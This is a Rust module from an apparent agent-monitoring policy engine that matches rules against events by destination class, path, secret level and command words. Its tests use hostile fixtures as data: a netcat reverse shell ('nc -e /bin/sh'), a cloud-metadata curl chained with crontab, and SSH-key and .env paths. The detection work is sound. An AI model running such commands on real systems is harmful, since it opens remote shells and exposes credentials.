//! Whether a rule applies to an event.

use super::spec::{Access, Class, MatchSpec, Outcome, ScopeSpec};
use super::traits::Traits;
use crate::command::{WordPattern, Words, commands, wildcard};
use crate::event::PolicyEvent;
use agentprov_model::special::{self, Severity as SecretLevel};
use agentprov_model::{ClassTable, Destination};
use regex::bytes::{RegexSet, RegexSetBuilder};
use regex::{Regex, RegexBuilder};
use std::sync::Arc;

/// Bytes that a compiled pattern may take.
const REGEX_LIMIT: usize = 1 << 20;

/// Compiles a user's regular expression, bounded in size; matching is linear in the text.
pub(super) fn compile_regex(source: &str) -> Result<Regex, regex::Error> {
    RegexBuilder::new(source).size_limit(REGEX_LIMIT).build()
}

/// An event with everything that several rules ask about.
pub(super) struct Seen<'e> {
    event: &'e PolicyEvent,
    joined: String,
    commands: Vec<Words>,
    destination: Option<Destination>,
    in_arguments: Vec<Destination>,
    secret: Option<SecretLevel>,
    in_table: Option<SecretLevel>,
    has: Traits,
}

impl<'e> Seen<'e> {
    pub(super) fn new(event: &'e PolicyEvent, table: &ClassTable) -> Self {
        let in_table = event.paths.iter().filter_map(|path| table.path(path)).map(|found| found.severity).max();
        let commands = all_commands(event);
        let destination = destination(event, table);
        let named = event.args.iter().flat_map(|text| hosts(text));
        let in_arguments: Vec<_> = named.filter_map(|host| class_of(host, table)).collect();
        let secret = in_table.or((event.event_type == "secret_path").then_some(SecretLevel::High));
        let has = Traits::of([
            (Traits::PATHS, !event.paths.is_empty()),
            (Traits::SECRET, secret.is_some()),
            (Traits::DESTINATION, destination.is_some()),
            (Traits::ADDRESS, event.dst_ip.is_some()),
            (Traits::PORT, event.dst_port.is_some()),
            (Traits::COMMANDS, !commands.is_empty()),
            (Traits::HOSTS, !in_arguments.is_empty()),
            (Traits::READS, event.reads),
            (Traits::WRITES, event.writes),
            (Traits::TAINTED, event.tainted),
        ]);
        Self { joined: event.args.join(" "), commands, destination, in_arguments, in_table, secret, has, event }
    }

    /// What the table says about the paths; `None` for events without a secret one.
    pub(super) fn in_table(&self) -> Option<SecretLevel> {
        self.in_table
    }

    /// True where the event has all of these.
    pub(super) fn has(&self, needed: Traits) -> bool {
        self.has.hold(needed)
    }

    fn is_class(&self, class: Class) -> bool {
        match class {
            Class::Secret => self.secret.is_some(),
            Class::Metadata => self.destination == Some(Destination::Metadata),
            Class::Loopback => self.destination == Some(Destination::Loopback),
            Class::Private => self.destination == Some(Destination::Private),
            Class::Public => self.destination == Some(Destination::Public),
        }
    }
}

/// What kind of place a destination is, in any spelling; `None` for a name that says nothing about where it leads.
fn class_of(text: &str, table: &ClassTable) -> Option<Destination> {
    let spelled = special::Destination::parse(text);
    Destination::coarse(table.destination(&spelled).0)
}

fn all_commands(event: &PolicyEvent) -> Vec<Words> {
    let mut found = commands(&event.args);
    if let (Some(exe), Some((first, rest))) = (&event.exe, event.args.split_first())
        && exe.rsplit('/').next() != first.rsplit('/').next()
    {
        let mut renamed = vec![exe.clone()];
        renamed.extend(rest.iter().cloned());
        found.extend(commands(&renamed));
    }
    found
}

fn destination(event: &PolicyEvent, table: &ClassTable) -> Option<Destination> {
    let by_address = event.dst_ip.and_then(|ip| Destination::coarse(table.address(ip).0));
    let by_text = || event.dst.as_deref().and_then(|text| class_of(text, table));
    by_address.or_else(by_text).or(match event.event_type.as_ref() {
        "metadata_ip" => Some(Destination::Metadata),
        "private_cidr" => Some(Destination::Private),
        _ => None,
    })
}

/// Texts of an argument that may be hosts: of URLs the host, else whatever stands alone or behind a `=` or `@`.
fn hosts(argument: &str) -> impl Iterator<Item = &str> {
    let cut = |c: char| c.is_whitespace() || "'\"`<>|;,()=@".contains(c);
    argument.split(cut).filter_map(|piece| {
        if let Some((_, rest)) = piece.split_once("://") {
            return rest.split(['/', '?', '#']).next();
        }
        // A bare number is more often a count than an address.
        let address = piece.split('/').next().unwrap_or(piece);
        let looks_like_one = address.contains('.') || address.contains("::") || address.starts_with('[');
        looks_like_one.then_some(address)
    })
}

/// Conditions, ready to be asked.
#[derive(Clone, Debug)]
pub(super) struct Matcher {
    /// What an event must have for them to hold.
    needs: Traits,
    spec: MatchSpec,
    paths: Option<RegexSet>,
    regexes: Vec<Regex>,
    words: Vec<WordPattern>,
    any: Vec<Matcher>,
    except: Vec<Matcher>,
}

impl Matcher {
    pub(super) fn new(spec: &MatchSpec) -> Result<Self, regex::Error> {
        let all = |specs: &[MatchSpec]| specs.iter().map(Self::new).collect::<Result<Vec<_>, _>>();
        let paths = match spec.path.as_slice() {
            [] => None,
            globs => {
                let sources = globs.iter().map(crate::glob::PathGlob::regex);
                Some(RegexSetBuilder::new(sources).unicode(false).size_limit(16 * REGEX_LIMIT).build()?)
            }
        };
        let words: Vec<_> = spec.argv.iter().filter_map(|text| WordPattern::new(text)).collect();
        let (any, except) = (all(&spec.any)?, all(&spec.except)?);
        Ok(Self {
            needs: Traits::needed(spec, !words.is_empty(), any.iter().map(|matcher| matcher.needs)),
            paths,
            regexes: spec.args_regex.iter().map(|source| compile_regex(source)).collect::<Result<_, _>>()?,
            words,
            any,
            except,
            spec: spec.clone(),
        })
    }

    /// What an event must have for it to match.
    pub(super) fn needs(&self) -> Traits {
        self.needs
    }

    pub(super) fn matches(&self, seen: &Seen<'_>) -> bool {
        seen.has.hold(self.needs) && self.conditions(seen)
    }

    fn conditions(&self, seen: &Seen<'_>) -> bool {
        self.identity(seen)
            && self.destination(seen)
            && self.file(seen)
            && self.arguments(seen)
            && (self.any.is_empty() || self.any.iter().any(|matcher| matcher.matches(seen)))
            && !self.except.iter().any(|matcher| matcher.matches(seen))
    }

    fn identity(&self, seen: &Seen<'_>) -> bool {
        let Seen { event, .. } = seen;
        let spec = &self.spec;
        let failed = |outcome| (outcome == Outcome::Failed) == event.failed;
        given(&spec.source, |source| *source == event.source)
            && given(&spec.event_type, |kind| *kind == event.event_type)
            && given(&spec.user, |user| Some(*user) == event.user)
            && given(&spec.ancestor, |name| event.ancestors.iter().any(|ancestor| wildcard(name, ancestor)))
            && spec.outcome.is_none_or(failed)
            && spec.tainted.is_none_or(|tainted| tainted == event.tainted)
            && spec.scope.as_ref().is_none_or(|scope| in_scope(scope, event))
    }

    fn destination(&self, seen: &Seen<'_>) -> bool {
        let Seen { event, .. } = seen;
        let spec = &self.spec;
        let is_ip = |text: &String| {
            let wanted: Option<std::net::IpAddr> = text.parse().ok();
            let same = event.dst_ip.zip(wanted).is_some_and(|(a, b)| a.to_canonical() == b.to_canonical());
            same || event.dst.as_ref() == Some(text) || seen.joined.contains(text.as_str())
        };
        let name = || event.dst.as_deref().and_then(|text| special::Destination::parse(text).host);
        given(&spec.dst_ip, is_ip)
            && spec.private_cidr.is_none_or(|wanted| seen.is_class(Class::Private) == wanted)
            && given(&spec.class, |class| seen.is_class(*class))
            && given(&spec.cidr, |range| event.dst_ip.is_some_and(|ip| range.contains(ip)))
            && given(&spec.port, |range| event.dst_port.is_some_and(|port| (range.first..=range.last).contains(&port)))
            && given(&spec.host, |host| name().is_some_and(|name| wildcard(&host.to_ascii_lowercase(), &name)))
    }

    fn file(&self, seen: &Seen<'_>) -> bool {
        let Seen { event, .. } = seen;
        let spec = &self.spec;
        given(&spec.secret_level, |level| seen.secret.is_some_and(|secret| secret.name() == level))
            && given(&spec.access, |access| match access {
                Access::Read => event.reads,
                Access::Write => event.writes,
            })
            // Last: the only one that takes time.
            && self.paths.as_ref().is_none_or(|set| event.paths.iter().any(|path| set.is_match(path.as_bytes())))
    }

    fn arguments(&self, seen: &Seen<'_>) -> bool {
        let Seen { event, joined, commands, .. } = seen;
        let spec = &self.spec;
        let in_path = |part: &String| event.paths.iter().any(|path| path.lossy().contains(part.as_str()));
        let in_args = |part: &String| joined.contains(part.as_str());
        let contained = match (spec.path_contains.is_empty(), spec.args_contains.is_empty()) {
            (true, true) => true,
            _ => spec.path_contains.iter().any(in_path) || spec.args_contains.iter().any(in_args),
        };
        let class_of = |class: &Class| match class {
            Class::Metadata => seen.in_arguments.contains(&Destination::Metadata),
            Class::Loopback => seen.in_arguments.contains(&Destination::Loopback),
            Class::Private => seen.in_arguments.contains(&Destination::Private),
            Class::Public => seen.in_arguments.contains(&Destination::Public),
            Class::Secret => false,
        };
        contained
            && given(&spec.argv_class, class_of)
            && given(&self.words, |pattern| commands.iter().any(|command| pattern.matches(command)))
            && given(&self.regexes, |regex| regex.is_match(joined))
    }
}

/// A condition that was not given holds; else one of its values must.
fn given<T>(values: &[T], holds: impl FnMut(&T) -> bool) -> bool {
    values.is_empty() || values.iter().any(holds)
}

fn in_scope(wanted: &ScopeSpec, event: &PolicyEvent) -> bool {
    let fits = |names: &[String], have: &Option<Arc<str>>| {
        given(names, |name| have.as_deref().is_some_and(|have| wildcard(name, have)))
    };
    fits(&wanted.run, &event.scope.run)
        && fits(&wanted.session, &event.scope.session)
        && fits(&wanted.attempt, &event.scope.attempt)
        && fits(&wanted.tool_call, &event.scope.tool_call)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::load;
    use agentprov_model::OsBytes;

    /// Events with everything that rules ask about, and without, in all combinations.
    fn events() -> Vec<PolicyEvent> {
        let mut events = Vec::new();
        let paths: [&[&str]; 4] = [&[], &["/w/a.c"], &["/home/u/.ssh/id_rsa"], &["/etc/cron.d/x", "/w/.env"]];
        let places = [None, Some("169.254.169.254"), Some("10.0.0.1"), Some("example.com"), Some("127.0.0.1:53")];
        let commands: [&[&str]; 5] = [
            &[],
            &["cc", "-c", "x.c"],
            &["sh", "-c", "curl http://169.254.169.254/; crontab -e"],
            &["sudo", "pip", "install", "x"],
            &["nc", "-e", "/bin/sh", "10.0.0.1"],
        ];
        for kind in ["execve", "file_open", "secret_path", "network_connect", "private_cidr", "metadata_ip", "setuid"] {
            for (paths, place, command) in paths
                .iter()
                .flat_map(|paths| places.iter().map(move |place| (paths, place)))
                .flat_map(|(paths, place)| commands.iter().map(move |command| (paths, place, command)))
            {
                let mut event = PolicyEvent { event_type: kind.into(), ..PolicyEvent::default() };
                event.paths = paths.iter().map(|path| OsBytes::from(*path)).collect();
                event.args = command.iter().map(|word| (*word).to_owned()).collect();
                if let Some(place) = place {
                    event.take_destination(place);
                }
                for (reads, writes, tainted) in [(true, true, false), (true, false, true), (false, true, true)] {
                    events.push(PolicyEvent { reads, writes, tainted, ..event.clone() });
                }
            }
        }
        events
    }

    fn check(matcher: &Matcher, seen: &Seen<'_>, passed_over: &mut usize) {
        if !seen.has.hold(matcher.needs) {
            *passed_over += 1;
            assert!(!matcher.conditions(seen), "{:?} fits {:?}", matcher.spec, seen.event);
        }
        matcher.any.iter().chain(&matcher.except).for_each(|inner| check(inner, seen, passed_over));
    }

    #[test]
    fn no_rule_that_fits_is_passed_over() {
        let rules = load(None).expect("the built-in rules");
        let table = ClassTable::builtin();
        let matchers: Vec<Matcher> = rules.rules().map(|rule| Matcher::new(&rule.when).expect("it compiles")).collect();
        let (mut passed_over, mut fitting) = (0, 0);
        for event in events() {
            let seen = Seen::new(&event, table);
            matchers.iter().for_each(|matcher| check(matcher, &seen, &mut passed_over));
            fitting += matchers.iter().filter(|matcher| matcher.matches(&seen)).count();
        }
        assert!(passed_over > 1_000 && fitting > 100, "{passed_over} passed over, {fitting} fit");
    }
}
